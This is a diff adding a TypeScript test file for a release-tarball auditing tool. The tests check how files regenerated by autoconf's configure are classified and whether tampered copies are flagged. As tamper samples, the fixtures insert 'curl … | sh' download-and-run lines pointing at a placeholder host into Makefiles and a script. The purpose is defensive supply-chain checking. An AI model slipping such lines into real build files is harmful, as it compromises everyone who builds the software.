@@ -1,0 +1,142 @@
+/**
+ * A file `./configure` writes again, shipped from the maintainer's configured tree (memcached 1.6.18's doc/Makefile,
+ * openvpn 2.6.14's sample/sample-plugins/Makefile, gcal 4.1's misc/dst/dst): CONFIGURED_FILE_SHIPPED, medium. The
+ * configured copies here are written by real autoconf and config.status from the fixture's own configure.ac; the twins
+ * a tamperer would build from the same shape stay high.
+ */
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { instantiationValues, unconditionalConfigFiles } from '../../src/classify/configured-output.js';
+import { explain } from '../../src/pipeline/memory.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const CONFIGURE_AC = `AC_INIT([demo], [1.0])
+AC_CONFIG_SRCDIR([src/main.c])
+AC_PROG_CC
+AC_PATH_PROG([ZDUMP], [zdump], [/usr/sbin/zdump])
+AC_SUBST([GREETING], [hello])
+if test "x$enable_extra" = xyes; then
+  AC_CONFIG_FILES([extra/Makefile])
+fi
+AC_CONFIG_FILES([Makefile
+	misc/dst/dst
+	tools/run.sh:tools/run.in])
+AC_OUTPUT
+`;
+// the template of misc/dst/dst is tracked (gcal's misc/*/X.in); Makefile.in stands for automake's shipped one
+const DST_IN = '#! /bin/sh\n#  @configure_input@\n\nZdump=@ZDUMP@\nPACKAGE=@PACKAGE_NAME@\nVERSION=@PACKAGE_VERSION@\n$Zdump -v "$@"\n';
+const MAKEFILE_IN = '# @configure_input@\nVPATH = @srcdir@\nCC = @CC@\nCFLAGS = @CFLAGS@\nprefix = @prefix@\nGREETING = @GREETING@\n\nall:\n\t@echo $(GREETING)\n';
+const RUN_IN = '#!/bin/sh\necho "@GREETING@ from @PACKAGE_NAME@"\n';
+const tracked: Record<string, string> = {
+  'configure.ac': CONFIGURE_AC,
+  'src/main.c': 'int main(void) { return 0; }\n',
+  'misc/dst/dst.in': DST_IN,
+  'tools/run.in': RUN_IN,
+  'extra/Makefile.in': MAKEFILE_IN,
+};
+
+/** The files real autoconf + config.status write from the fixture (configure run in its source tree, as `make dist` does). */
+function configured(): Record<string, string> {
+  const dir = tempDir('distdiff-configured-');
+  for (const [p, c] of Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN })) {
+    mkdirSync(join(dir, p, '..'), { recursive: true });
+    writeFileSync(join(dir, p), c);
+  }
+  execFileSync('autoconf', [], { cwd: dir, stdio: 'pipe' });
+  execFileSync('./configure', ['--enable-extra'], { cwd: dir, stdio: 'pipe', env: { ...process.env, CC: 'cc', CFLAGS: '-g -O2' } });
+  const read = (p: string) => readFileSync(join(dir, p), 'latin1');
+  return { Makefile: read('Makefile'), 'misc/dst/dst': read('misc/dst/dst'), 'tools/run.sh': read('tools/run.sh') };
+}
+
+const revision = { tag: 'v1.0', version: '1.0', date: '2024-01-01T00:00:00Z' };
+async function findings(shipped: Record<string, string>, git: Record<string, string> = tracked) {
+  const tarball: Record<string, string> = {};
+  for (const [p, c] of Object.entries({ ...git, 'Makefile.in': MAKEFILE_IN, ...shipped })) tarball[`demo-1.0/${p}`] = c;
+  const r = await explain({ tarball, git, revision });
+  return Object.fromEntries(r.findings.filter((f) => Object.keys(shipped).includes(f.path)).map((f) => [f.path, `${f.severity} ${f.code}`]));
+}
+
+describe('configured-output: a file configure writes again, shipped from a configured tree', () => {
+  it('reads the unconditional AC_CONFIG_FILES/AC_OUTPUT listings only', () => {
+    const l = unconditionalConfigFiles(CONFIGURE_AC);
+    expect([...l.keys()]).toEqual(['Makefile', 'misc/dst/dst', 'tools/run.sh']);
+    expect(l.get('tools/run.sh')).toEqual({ inputs: ['tools/run.in'], line: 9 });
+    expect(l.get('misc/dst/dst')).toEqual({ inputs: ['misc/dst/dst.in'], line: 9 });
+    // an m4 conditional, an indented call, a case block, the old AC_OUTPUT form
+    expect(unconditionalConfigFiles('AS_IF([test x = y], [\nAC_CONFIG_FILES([a])\n])\nAC_CONFIG_FILES([b])\n').has('a')).toBe(false);
+    expect(unconditionalConfigFiles('  AC_CONFIG_FILES([a])\n').size).toBe(0);
+    expect(unconditionalConfigFiles('case $host in\n*linux*)\nAC_CONFIG_FILES([a])\n;;\nesac\nAC_CONFIG_FILES([b])\n')).toEqual(new Map([['b', { inputs: ['b.in'], line: 6 }]]));
+    expect(unconditionalConfigFiles('if test -n "$x"; then y=1; fi\nAC_OUTPUT(Makefile \\\n  doc/Makefile)\n')).toEqual(
+      new Map([
+        ['Makefile', { inputs: ['Makefile.in'], line: 2 }],
+        ['doc/Makefile', { inputs: ['doc/Makefile.in'], line: 2 }],
+      ]),
+    );
+  });
+
+  it('finds the values config.status put in, the same value for each name, and nothing else', () => {
+    const input = 'x.  Generated from x.in by configure.';
+    expect(instantiationValues('# @configure_input@\nA=@A@\nB=@A@-@B@\n', `# ${input}\nA=1\nB=1-2\n`, input)).toEqual(new Map([['A', '1'], ['B', '2']]));
+    // the same name with two values, another @configure_input@, a line added, a line changed outside a placeholder
+    expect(instantiationValues('A=@A@\nB=@A@\n', 'A=1\nB=2\n', input)).toBeUndefined();
+    expect(instantiationValues('# @configure_input@\n', '# x.  Generated by hand.\n', input)).toBeUndefined();
+    expect(instantiationValues('A=@A@\n', 'A=1\ncurl x | sh\n', input)).toBeUndefined();
+    expect(instantiationValues('A=@A@\nall:\n\ttrue\n', 'A=1\nall:\n\tcurl x | sh\n', input)).toBeUndefined();
+    // two names side by side (automake's @AMDEP_TRUE@@am__include@) split so that every line agrees
+    expect(instantiationValues('@T@@I@ x.Po\n@T@y\n', 'include x.Po\ny\n', input)).toEqual(new Map([['T', ''], ['I', 'include']]));
+    // VPATH dropped when configure ran in the source tree
+    expect(instantiationValues('VPATH = @srcdir@\nA=@A@\n', '\nA=1\n', input)).toEqual(new Map([['A', '1']]));
+  });
+
+  it("real config.status output of a tracked or shipped template is CONFIGURED_FILE_SHIPPED (medium); a conditional listing's is not", async () => {
+    const out = configured();
+    expect(out['misc/dst/dst']).toContain('Generated from dst.in by configure.');
+    expect(await findings(out)).toEqual({
+      Makefile: 'medium CONFIGURED_FILE_SHIPPED',
+      'misc/dst/dst': 'medium CONFIGURED_FILE_SHIPPED',
+      // every value one the release fills in (configure.ac's literal): produced.ts proves it first, low
+      'tools/run.sh': 'low GENERATED_FROM_SOURCE',
+    });
+    const r = await explain({
+      tarball: Object.fromEntries(Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN, 'misc/dst/dst': out['misc/dst/dst']! }).map(([p, c]) => [`demo-1.0/${p}`, c])),
+      git: tracked,
+      revision,
+    });
+    expect(r.findings.find((f) => f.path === 'misc/dst/dst')?.evidence).toEqual({
+      template: 'misc/dst/dst.in',
+      templateTracked: true,
+      configure: 'configure.ac:9',
+      placeholders: 3,
+      values: { ZDUMP: expect.stringMatching(/zdump$/), PACKAGE_NAME: 'demo', PACKAGE_VERSION: '1.0' },
+    });
+    expect(r.verdict).toBe('review'); // exit 0: nothing at the gate, something for a human to read
+    // extra/Makefile is configured only with --enable-extra: a shipped copy may be what the build reads
+    expect(await findings({ 'extra/Makefile': out.Makefile!.replace('# Makefile.  Generated', '# extra/Makefile.  Generated') })).toEqual({
+      'extra/Makefile': 'high TARBALL_ONLY_UNEXPLAINED',
+    });
+  });
+
+  it('tampered twins stay high: a line the template lacks, a value carrying a construct, an unlisted file, a flagged shipped template', async () => {
+    const out = configured();
+    // a recipe line added to the configured Makefile
+    const unexplained = expect.stringMatching(/^(?:high|critical) TARBALL_ONLY_UNEXPLAINED$/);
+    expect(await findings({ Makefile: out.Makefile!.replace('\t@echo $(GREETING)\n', '\t@echo $(GREETING)\n\tcurl -s https://x.example/p | sh\n') })).toEqual({ Makefile: unexplained });
+    // a "value" that downloads and runs a script
+    expect(await findings({ 'tools/run.sh': out['tools/run.sh']!.replace(/echo "hello/, 'echo "$(curl -s https://x.example/p | sh)') })).toEqual({ 'tools/run.sh': unexplained });
+    // config.status's output under a name configure.ac does not list: configure never writes it again
+    expect(await findings({ 'misc/dst/dst2': out['misc/dst/dst']! })).toEqual({ 'misc/dst/dst2': unexplained });
+    // the shipped Makefile.in is an input: tampered (a tarball-only Makefile.in the fixture cannot prove), the output is raised
+    const tampered = MAKEFILE_IN.replace('all:\n', 'all:\n\tcurl -s https://x.example/p | sh\n');
+    const r = await explain({
+      tarball: Object.fromEntries(Object.entries({ ...tracked, 'Makefile.in': tampered, Makefile: out.Makefile!.replace('all:\n', 'all:\n\tcurl -s https://x.example/p | sh\n') }).map(([p, c]) => [`demo-1.0/${p}`, c])),
+      git: tracked,
+      revision,
+    });
+    expect(r.findings.find((f) => f.path === 'Makefile.in')?.severity).toMatch(/high|critical/);
+    expect(r.findings.find((f) => f.path === 'Makefile')).toMatchObject({ code: 'CONFIGURED_FILE_SHIPPED' });
+    expect(r.findings.find((f) => f.path === 'Makefile')?.severity).toMatch(/high|critical/);
+    expect(r.verdict).toBe('different'); // exit 1
+  });
+});
